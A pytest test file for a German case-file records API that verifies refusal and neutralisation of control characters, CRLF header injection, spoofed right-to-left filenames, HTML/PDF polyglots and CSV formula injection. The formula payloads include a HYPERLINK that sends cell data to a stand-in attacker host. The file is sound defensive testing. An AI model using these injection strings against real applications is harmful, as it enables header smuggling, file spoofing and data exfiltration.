"""Input that would break headers, spreadsheets or type checks is refused or neutralised."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from sqlalchemy import update

from akte.audit import service as audit
from akte.core.csvsafe import csv_safe
from akte.core.database import session_scope
from akte.core.ranges import content_disposition
from akte.documents.models import DocumentVersion
from tests.trust.helpers import text_pdf, unique_pdf, upload

BAD = [
    "AZ-1\r\nSet-Cookie: x=1",
    "AZ-2\x00",
    "AZ-3\ttab",
    "AZ-4\x85",
    "AZ-5\u202egpj.exe",
    "AZ-6\x1b[31m",
]


@pytest.mark.parametrize("bad", BAD)
def test_an_aktenzeichen_with_control_characters_is_refused_naming_the_field(client, world, bad):
    r = client.post(
        "/api/v1/case-files",
        headers=world.headers["caseworker_a1"],
        json={"aktenzeichen": bad, "org_unit_id": str(world.unit_a1.id)},
    )
    assert r.status_code == 422, r.text
    assert r.json()["error"] == "validation_error"
    assert "aktenzeichen" in r.json()["detail"] and "control characters" in r.json()["detail"]


def test_names_and_titles_with_control_characters_are_refused(client, world):
    caseworker, admin = world.headers["caseworker_a1"], world.headers["admin_a"]
    r = client.patch(
        f"/api/v1/case-files/{world.case_a1.id}",
        headers=caseworker,
        json={"person_name": "Erika\nMustermann"},
    )
    assert r.status_code == 422 and "person_name" in r.json()["detail"]
    r = client.patch(
        f"/api/v1/case-files/{world.case_a1.id}",
        headers=caseworker,
        json={"address_lines": ["Hauptstr. 1", "12345\rOrt"]},
    )
    assert r.status_code == 422 and "address_lines" in r.json()["detail"]
    r = client.post(
        f"/api/v1/tenants/{world.tenant_a.id}/org-units",
        headers=admin,
        json={"code": "LB\x07", "name": "Team"},
    )
    assert r.status_code == 422 and "code" in r.json()["detail"]
    r = client.post(
        f"/api/v1/tenants/{world.tenant_a.id}/users",
        headers=admin,
        json={
            "username": f"u-{uuid.uuid4().hex[:6]}",
            "display_name": "A\u202eB",
            "role": "caseworker",
            "password": "long-enough-password",
        },
    )
    assert r.status_code == 422 and "display_name" in r.json()["detail"]
    doc = upload(client, world)
    r = client.patch(
        f"/api/v1/documents/{doc['id']}", headers=caseworker, json={"title": "Lohn\r\nabrechnung"}
    )
    assert r.status_code == 422 and "title" in r.json()["detail"]
    r = client.post(
        f"/api/v1/case-files/{world.case_a1.id}/documents",
        headers=caseworker,
        files={"file": ("scan.pdf", unique_pdf(), "application/pdf")},
        data={"title": "a\x00b"},
    )
    assert r.status_code == 422 and "title" in r.json()["detail"]
    # ordinary German text passes
    r = client.patch(
        f"/api/v1/case-files/{world.case_a1.id}",
        headers=caseworker,
        json={"person_name": "Jürgen Groß-Öztürk"},
    )
    assert r.status_code == 200


@pytest.mark.parametrize("name", ["rechnung\u202efdp.exe", "scan\x1b[2J.pdf"])
def test_an_upload_filename_with_control_characters_is_refused(client, world, name):
    # (CR/LF cannot even arrive: they would end the multipart header line)
    r = client.post(
        f"/api/v1/case-files/{world.case_a1.id}/documents",
        headers=world.headers["caseworker_a1"],
        files={"file": (name, unique_pdf(), "application/pdf")},
    )
    assert r.status_code == 422, r.text
    assert r.json()["detail"].startswith("filename")


def test_content_disposition_strips_control_characters_anyway(ctx, client, world):
    header = content_disposition("AZ-1\r\nSet-Cookie: x=1\x00\u202e.pdf")
    assert "\r" not in header and "\n" not in header and "\x00" not in header
    assert "\u202e" not in header and "%E2%80%AE" not in header
    doc = upload(client, world)
    with session_scope(ctx.session_factory) as session:  # a name from before this rule
        session.execute(
            update(DocumentVersion)
            .where(DocumentVersion.document_id == uuid.UUID(doc["id"]))
            .values(filename="Bescheid\r\nX-Evil: 1.pdf")
        )
    r = client.get(f"/api/v1/documents/{doc['id']}/content", headers=world.headers["caseworker_a1"])
    assert r.status_code == 200
    assert "x-evil" not in r.headers
    assert 'filename="BescheidX-Evil: 1.pdf"' in r.headers["content-disposition"]


def test_pdf_magic_counts_at_offset_0_only(client, world):
    polyglot = (
        b"<html><body><script>alert(1)</script>" + b" " * 60 + b"%PDF-1.4\n" + unique_pdf()[9:]
    )
    r = client.post(
        f"/api/v1/case-files/{world.case_a1.id}/documents",
        headers=world.headers["caseworker_a1"],
        files={"file": ("poly.html", polyglot, "application/pdf")},
    )
    assert r.status_code == 415, r.text


@pytest.mark.parametrize(
    ("sent", "stored"),
    [
        ("poly.html", "poly.pdf"),
        ("bescheid", "bescheid.pdf"),
        ("Scan.PDF", "Scan.PDF"),
        ("archive.tar.gz", "archive.tar.pdf"),
        (".htaccess", ".htaccess.pdf"),
    ],
)
def test_the_stored_extension_follows_the_detected_type(client, world, sent, stored):
    headers = world.headers["caseworker_a1"]
    r = client.post(
        f"/api/v1/case-files/{world.case_a1.id}/documents",
        headers=headers,
        files={"file": (sent, text_pdf(f"Extension {uuid.uuid4()}"), "text/html")},
    )
    assert r.status_code == 201, r.text
    detail = client.get(f"/api/v1/documents/{r.json()['id']}", headers=headers).json()
    assert detail["versions"][0]["filename"] == stored
    assert detail["versions"][0]["mime_type"] == "application/pdf"
    download = client.get(f"/api/v1/documents/{r.json()['id']}/content", headers=headers)
    assert f'filename="{stored}"' in download.headers["content-disposition"]


def test_a_png_named_pdf_is_stored_as_png(client, world):
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    png = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", (1).to_bytes(4, "big") * 2 + b"\x08\x00\x00\x00\x00")
        + chunk(b"IDAT", zlib.compress(b"\x00" + uuid.uuid4().bytes[:1]))
        + chunk(b"IEND", b"")
    )
    r = client.post(
        f"/api/v1/case-files/{world.case_a1.id}/documents",
        headers=world.headers["caseworker_a1"],
        files={"file": ("scan.pdf", png, "application/pdf")},
    )
    assert r.status_code == 201, r.text
    detail = client.get(
        f"/api/v1/documents/{r.json()['id']}", headers=world.headers["caseworker_a1"]
    ).json()
    assert detail["versions"][0]["filename"] == "scan.png"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://evil.example")', '\'=HYPERLINK("https://evil.example")'),
        ("+49 30 123", "'+49 30 123"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("AZ-2024-1", "AZ-2024-1"),
        (None, ""),
        (-3, "-3"),
        (2.5, "2.5"),
        (True, "True"),
    ],
)
def test_csv_safe(value, cell):
    assert csv_safe(value) == cell


def test_the_audit_csv_export_neutralises_formulas(ctx, client, world):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Akte")'
    with session_scope(ctx.session_factory) as session:
        audit.record(
            session,
            None,
            "test.csv",
            tenant_id=world.tenant_a.id,
            object_type="document",
            object_id=formula,
        )
    r = client.get(
        "/api/v1/audit/export.csv", params={"action": "test.csv"}, headers=world.headers["admin_a"]
    )
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["object_id"] for row in rows] == ["'" + formula]
